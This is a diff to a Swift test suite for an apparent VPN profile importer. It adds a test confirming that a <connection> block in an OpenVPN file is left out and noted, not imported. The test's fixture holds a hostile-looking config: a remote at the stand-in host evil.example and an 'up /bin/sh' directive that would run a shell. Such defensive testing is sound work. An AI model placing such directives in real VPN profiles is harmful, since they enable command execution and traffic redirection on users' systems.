@@ -207,6 +207,16 @@ import VPNSystem
         #expect(e?.message.contains("--username") == true && e?.hint?.contains("without --username") == true)
     }
 
+    /// What a <connection> block holds never reaches openvpn: the block is left out and listed.
+    @Test func connectionBlocksAreLeftOut() throws {
+        let text = try Fixtures.text("ovpn/one-ca.ovpn") + "<connection>\nremote evil.example 443 tcp\nup /bin/sh\n</connection>\n"
+        let r = try ImportFormat.importChecked(Array(text.utf8), name: "c", source: "c.ovpn")
+        guard case .openvpn(let o) = r.profile.protocol else { Issue.record("not openvpn"); return }
+        #expect(o.remotes.map(\.host) == ["vpn2.example.com"])
+        #expect(o.options == ["remote-cert-tls server"])
+        #expect(r.notes.contains { $0.hasPrefix("not imported") && $0.contains("<connection>") })
+    }
+
     /// A huge bad value is quoted in part, not copied into the message.
     @Test func badValuesAreQuotedShort() {
         let long = String(repeating: "x;", count: 50_000)
